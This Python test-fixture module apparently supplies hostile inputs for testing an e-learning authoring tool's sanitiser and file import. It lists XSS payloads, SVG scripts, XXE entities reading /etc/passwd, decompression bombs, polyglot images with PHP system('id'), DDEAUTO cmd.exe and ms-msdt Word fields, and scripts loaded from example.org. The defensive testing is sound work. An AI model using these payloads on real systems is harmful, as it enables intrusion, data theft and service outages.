"""Attacks in Markdown, copied HTML, SVG, pictures and Word documents, each by its name; `zips.ATTACKS` has those in zips.

Each that could run calls alert(1), and nothing else does, so a browser tells when one came through. Their kinds are those of
the usual public lists: cross-site scripting in HTML and Markdown, SVG, XXE, bombs, files of two kinds at once, metadata,
macros and outside relations in documents.
"""

import struct
import zlib
from io import BytesIO

from PIL import Image, PngImagePlugin

from elearn.authoring.rules.bringing import Unreadable
from tests.unit.test_authoring_documents import BODY, RELS, document

_JS = "javascript:alert(1)"
_ONERROR = "<img src=x onerror=alert(1)>"

# What an author may type. All of it is shown as text, or is a link or picture that does nothing.
MARKDOWN = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//example.org/x.js></script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script>", "<script/x>alert(1)</script>",
    "<script>\nalert(1)\n</script>", "<<script>alert(1)//<</script>", "<script type=module>alert(1)</script>",
    _ONERROR, "<img src=x onerror='alert(1)'", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x` onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<img srcset=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">', "<image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<svg><foreignObject><iframe onload=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>", "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x>", "<base href=//example.org/>", "<link rel=stylesheet href=//example.org/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>",
    "<style>@import url(//example.org/x)</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<p style='animation:x' onanimationstart=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=submit>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>y</button>", "<dialog open onclose=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!ENTITY x 'alert(1)'>", "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a onmouseover=alert(1)>x</a>",
    "<div id=forms name=body>x</div>", "<a id=document><a id=document name=cookie>", "<b onclick=alert(1)>x</b>",
    f"[a]({_JS})", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](java&Tab;script:alert(1))",
    "[a](\x01javascript:alert(1))", "[a](%6Aavascript:alert(1))", "[a](vbscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](blob:https://example.org/x)",
    "[a](file:///etc/passwd)",
    "[a](<javascript:alert(1)>)", '[a](https://example.org "onclick=alert(1)")',
    "[a](https://example.org\" onclick=\"alert(1))",
    "[a](//example.org/a.pdf)", "[a](\\\\example.org\\a)", "[a](../media/../../authoring.pdf)",
    "[a](#x\" onclick=\"alert(1))",
    f"![a]({_JS})", "![a](https://example.org/spy.png)", '![a](../media/example.png" onerror="alert(1))',
    '![a" onerror="alert(1)](../media/example.png)', "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](x)",
    f"[![a](x)]({_JS})", f"[a]: {_JS}\n\n[a]", f"[a][1]\n\n[1]: {_JS}", f"<{_JS}>", "<javascript:alert(1)@example.org>",
    "`<script>alert(1)</script>`", "``` html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>",
    f"- {_ONERROR}\n- b",
    f"> {_ONERROR}", f"# {_ONERROR}", f"| {_ONERROR} | b |\n|---|---|\n| {_ONERROR} | c |",
    "## A {#a onclick=alert(1)}",
    '## A {#a style="background:url(//example.org)"}', "## A {: #a onclick=alert(1) }", "a\n{: onclick=alert(1) }",
    "## A {#forms}", f"/// case | {_ONERROR}\nx\n///", "/// html | script\nalert(1)\n///",
    "/// case | x\n    attrs: {onclick: alert(1)}\ny\n///",
    f"/// details | {_ONERROR}\nx\n///", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e>tpircs/<)1(trela>tpircs<", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script>",
    "*<script>*alert(1)*</script>*", "**<img src=x **onerror=alert(1)>**", "{{ config }}", "{% import os %}",
    "${alert(1)}", "#{alert(1)}",
    "=cmd|'/c calc'!A0", "![a](../media/gate.mp4\"><script>alert(1)</script>)",
)  # fmt: skip

# What somebody may copy from a page and paste.
PASTED = (
    "<script>alert(1)</script>a", "<p onclick=alert(1)>a</p>", f"<a href='{_JS}'>a</a>", f"<a href=' {_JS}'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>", "<a href='data:text/html,x'>a</a>", "<img src=x onerror=alert(1)>a",
    "<svg><script>alert(1)</script></svg>a", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<style>@import '//example.org'</style>a", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>a",
    "<p>[a](javascript:alert(1))</p>", "<p>![a](https://example.org/x.png)</p>", "<p>`a`</p><p>/// html | script</p>",
    "<h2>a {#x onclick=alert(1)}</h2>", "<table><tr><td onclick=alert(1)>a</td></tr></table>",
    "<noscript><img src=x onerror=alert(1)></noscript>a",
    "<template><img src=x onerror=alert(1)></template>a", "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<title><img src=x onerror=alert(1)></title>a", "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->a",
    "<object data=x>a</object>",
    "<a href='file:///etc/passwd'>a</a>", "<base href='javascript:alert(1)//'><a href=x>a</a>",
)  # fmt: skip

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
_XML = "<?xml version='1.0'?>"
_DRAWINGS = (
        f"{_SVG} onload='alert(1)'/>", f"{_SVG}><script>alert(1)</script></svg>",
        f"{_SVG}><script href='//example.org/x.js'/></svg>",
        f"{_SVG}><a xlink:href='{_JS}'><text>x</text></a></svg>", f"{_SVG}><image href='x' onerror='alert(1)'/></svg>",
        f"{_SVG}><image href='https://example.org/spy.png'/></svg>",
        f"{_SVG}><use href='https://example.org/x.svg#a'/></svg>",
        f"{_SVG}><use href='data:image/svg+xml,%3Csvg id=x onload=alert(1)%3E#x'/></svg>",
        f"{_SVG}><animate onbegin='alert(1)'/></svg>",
        f"{_SVG}><a><animate attributeName='href' values='{_JS}'/><text>x</text></a></svg>",
        f"{_SVG}><set attributeName='onload' to='alert(1)'/></svg>",
        f"{_SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject></svg>",
        f"{_SVG}><style>@import url(//example.org/x.css)</style></svg>",
        f"{_SVG}><rect style='fill:url(//example.org/x)'/></svg>",
        f"{_SVG}><handler type='text/javascript'>alert(1)</handler></svg>",
        f"{_SVG}><feImage href='https://example.org/x'/></svg>",
        f"{_XML}<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{_SVG}><text>&x;</text></svg>",
        f"{_XML}<!DOCTYPE a [<!ENTITY % x SYSTEM 'https://example.org/x.dtd'>%x;]>{_SVG}/>",
        f"{_XML}<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>{_SVG}><text>&b;</text></svg>",
        f"{_XML}<?xml-stylesheet type='text/xsl' href='//example.org/x.xsl'?>{_SVG}/>",
        f"\ufeff{_SVG} onload='alert(1)'/>",
        f"{_SVG} width='1e9' height='1e9'><rect width='1e9' height='1e9'/></svg>", f"{'<g>' * 9000}",
        f"<!-- PNG -->{_SVG} onload='alert(1)'/>",
)  # fmt: skip
SVG = (
    *(each.encode() for each in _DRAWINGS),
    zlib.compress(f"{_SVG} onload='alert(1)'/>".encode()),
    f"{_SVG} onload='alert(1)'/>".encode("utf-16"),
)


def png(width: int, height: int, data: bytes = b"", more: bytes = b"") -> bytes:
    """A picture that says it is so large; `more` are chunks before its end."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + pixels + more + chunk(b"IEND", b"")


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _drawn(kind: str, **more: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", (40, 30), "#345").save(out, kind, **more)
    return out.getvalue()


def _said() -> PngImagePlugin.PngInfo:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "<script>alert(1)</script>")
    said.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta onload=alert(1)>")
    return said


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"  # what it shows
    exif[0x013B] = "alert(1)"  # who made it
    return exif


_CALL = b"<script>alert(1)</script>"
# By name: the file, and why it is refused; None where it is drawn anew, and nothing but its pixels stays.
PICTURES: dict[str, tuple[bytes, Unreadable | None]] = {
    "bomb.png": (png(60_000, 60_000), Unreadable.TOO_LARGE),
    "long.png": (png(2**31 - 1, 1), Unreadable.TOO_LARGE),
    "large.png": (png(20_000, 20_000), Unreadable.TOO_LARGE),
    "packed.png": (png(7_000, 7_000, zlib.compress(b"\0" * 1_000_000)), Unreadable.DAMAGED),
    "broken.png": (png(100, 100, b"no zlib"), Unreadable.DAMAGED),
    "cut.png": (_drawn("PNG")[:60], Unreadable.DAMAGED),
    "nothing.png": (png(0, 0), Unreadable.NO_PICTURE),
    "text.png": (_drawn("PNG", pnginfo=_said()), None),
    "behind.png": (_drawn("PNG") + _CALL, None),
    "exif.png": (_drawn("PNG", exif=_exif()), None),
    "exif.jpg": (_drawn("JPEG", exif=_exif()), None),
    "comment.jpg": (_drawn("JPEG", comment=_CALL), None),
    "behind.jpg": (_drawn("JPEG") + b"<?php system('id'); ?>" + _CALL, None),
    "profile.jpg": (_drawn("JPEG", icc_profile=_CALL * 20), None),
    "zip-behind.jpg": (_drawn("JPEG") + b"PK\3\4" + _CALL + b"PK\5\6" + bytes(18), None),
    "exif.webp": (_drawn("WEBP", exif=_exif().tobytes()), None),
    "xmp.webp": (_drawn("WEBP", xmp=_CALL), None),
    "cut.webp": (b"RIFF\0\0\0\0WEBPVP8 ", Unreadable.DAMAGED),
    "page.jpg": (b"<!DOCTYPE html>" + _CALL, Unreadable.NO_PICTURE),
    "gif.png": (b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1)", Unreadable.NO_PICTURE),
    "program.png": (b"MZ\x90\0" + _CALL, Unreadable.NO_PICTURE),
    "shell.jpg": (b"#!/bin/sh\nid\n", Unreadable.NO_PICTURE),
    "postscript.png": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file", Unreadable.NO_PICTURE),
    "msl.png": (b"<image><read filename='/etc/passwd'/></image>", Unreadable.NO_PICTURE),
    "mvg.png": (b"push graphic-context\nfill 'url(https://example.org/x\"|id\")'", Unreadable.NO_PICTURE),
    "tiff.png": (b"II*\0\x08\0\0\0" + _CALL, Unreadable.NO_PICTURE),
    "bmp.png": (_drawn("BMP"), Unreadable.NO_PICTURE),
    "ico.png": (_drawn("ICO"), Unreadable.NO_PICTURE),
    "nothing.jpg": (b"", Unreadable.NO_PICTURE),
    **{
        f"drawing-{number}.{('svg', 'png')[number % 2]}": (data, Unreadable.NO_PICTURE)
        for number, data in enumerate(SVG)
    },
}

_DOCTYPE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
_LINKED = f"""<w:p><w:hyperlink r:id="r9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>{BODY}"""


def _related(target: str, kind: str = "hyperlink", body: str = _LINKED) -> bytes:
    """With a relation that leads outside."""
    related = RELS.replace(
        'Id="r1" Target="word/document.xml"', f'Id="r9" TargetMode="External" Target="{target}"'
    ).replace('/officeDocument"/>', f'/{kind}"/>')
    return document(body, **{"word/_rels/document.xml.rels": related})


def _field(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>{BODY}'


def _with_text(text: str) -> bytes:
    return document(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>{BODY}")


# By name: the document, and why it is refused; None where its text comes in.
WORD: dict[str, tuple[bytes, Unreadable | None]] = {
    "entity": (document(**{"word/document.xml": f"{_DOCTYPE}<a>&b;</a>"}), Unreadable.DAMAGED),
    "entity in styles": (document(**{"word/styles.xml": f"{_DOCTYPE}<a>&b;</a>"}), Unreadable.DAMAGED),
    "entity in relations": (document(**{"word/_rels/document.xml.rels": f"{_DOCTYPE}<a>&b;</a>"}), Unreadable.DAMAGED),
    "entity in types": (document(**{"[Content_Types].xml": f"{_DOCTYPE}<a>&b;</a>"}), Unreadable.DAMAGED),
    "entity in UTF-16": (document(**{"word/document.xml": f"{_DOCTYPE}<a>&b;</a>".encode("utf-16")}), Unreadable.DAMAGED),
    "entity of parameters": (
        document(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY % b SYSTEM "//example.org/x.dtd">%b;]><a/>'}),
        Unreadable.DAMAGED,
    ),
    "a billion laughs": (
        document(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'}),
        Unreadable.DAMAGED,
    ),
    "bomb of XML": (document(**{"word/document.xml": b"<a>" + b" " * 17_000_000}), Unreadable.TOO_LARGE),
    "bomb beside": (document(**{"word/media/big.png": b"\0" * 61_000_000}), Unreadable.TOO_LARGE),
    "many parts": (document(**{f"word/media/{n}": b"" for n in range(2_001)}), Unreadable.TOO_LARGE),
    "nested": (document("<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400), Unreadable.TANGLED),
    "no zip": (b"PK\3\4" + _CALL, Unreadable.NO_DOCUMENT),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _CALL, Unreadable.NO_DOCUMENT),
    "RTF": (rb"{\rtf1{\object\objocx{\*\objdata 01}}}", Unreadable.NO_DOCUMENT),
    "page": (b"<html>" + _CALL, Unreadable.NO_DOCUMENT),
    "macros": (document(**{"word/vbaProject.bin": b"Sub AutoOpen() Shell",
    "word/vbaData.xml": _DOCTYPE}), None),
    "macros alone": (document(**{"word/vbaProject.bin": b"Sub AutoOpen() Shell"}), None),
    "embedded": (document(**{"word/embeddings/oleObject1.bin": b"MZ"}), None),
    "ActiveX": (document(**{"word/activeX/activeX1.bin": b"MZ"}), None),
    "template outside": (_related("https://example.org/x.dotm", "attachedTemplate", BODY), None),
    "picture outside": (_related("https://example.org/x.png", "image", BODY), None),
    "frame outside": (_related("https://example.org/x.htm", "frame", BODY), None),
    "share outside": (_related("file://example.org/share/x", "image", BODY), None),
    "link that is a program": (_related(_JS), None),
    "link to data": (_related("data:text/html,alert(1)"), None),
    "link to a file": (_related("file:///etc/passwd"), None),
    "link to a handler": (_related("ms-msdt:/id PCWDiagnostic"), None),
    "field DDE": (document(_field("DDEAUTO c:\\\\windows\\\\cmd.exe")), None),
    "field INCLUDE": (document(_field("INCLUDEPICTURE https://example.org/x.png")), None),
    "field HYPERLINK": (document(_field("HYPERLINK javascript:alert(1)")), None),
    "names that lead out": (document(**{"../../evil.xml": b"x", "/etc/evil.xml": b"x"}), None),
    "words of HTML": (_with_text("&lt;script&gt;alert(1)&lt;/script&gt;"), None),
    "words of a picture": (_with_text("&lt;img src=x onerror=alert(1)&gt;"), None),
    "words of Markdown": (_with_text("[a](javascript:alert(1))"), None),
    "words of a box": (_with_text("/// html | script"), None),
    "words of marks": (_with_text("## A {#a onclick=alert(1)}"), None),
    "style map": (document(**{"mammoth/style-map": "p => script:fresh"}), None),
}  # fmt: skip
